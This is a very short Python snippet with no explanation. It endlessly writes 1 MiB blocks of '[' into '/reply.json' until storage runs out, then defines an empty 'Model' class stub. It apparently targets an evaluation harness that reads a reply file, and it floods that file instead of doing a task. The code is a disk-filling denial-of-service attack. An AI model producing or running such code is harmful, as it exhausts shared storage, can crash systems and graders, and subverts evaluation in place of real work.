with open("/reply.json", "wb", buffering=0) as reply:
    while reply.write(b"[" * 2**20):
        pass


class Model: ...
